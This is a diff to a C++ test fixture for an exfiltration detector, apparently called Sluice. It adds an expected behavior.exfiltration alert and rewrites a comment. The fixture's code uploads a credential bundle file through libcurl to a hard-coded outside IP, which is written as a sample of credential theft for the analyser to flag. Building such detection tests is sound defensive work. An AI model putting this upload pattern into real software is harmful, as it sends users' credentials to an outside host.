@@ -4,8 +4,9 @@
 // multipart form whose file part libcurl reads by name
 // (curl_mime_filedata). The credential bytes go through a file on disk
 // that the program never reads itself. taint.exfiltration still sees the
-// bundle file's content reach the upload (curl_mime_filedata) and reports
-// it, so behavior.exfiltration stays quiet here (covered-by). It includes
+// bundle file's content reach the upload (curl_mime_filedata), but only as
+// file content (a note), which does not cover the credential read the
+// behaviour sees, so behavior.exfiltration reports too. It includes
 // libcurl's headers; Sluice's bundled declarations serve them when libcurl is
 // not installed.
 #include <cstdlib>
@@ -40,7 +41,7 @@ static int upload()
     curl_mime_filedata(part, kBundle);
     curl_easy_setopt(c, CURLOPT_URL, "http://185.199.10.7/upload/bundle");
     curl_easy_setopt(c, CURLOPT_MIMEPOST, form); // $ Alert[taint.exfiltration]
-    int rc = curl_easy_perform(c);
+    int rc = curl_easy_perform(c); // $ Alert[behavior.exfiltration]
     curl_mime_free(form);
     curl_easy_cleanup(c);
     return rc;
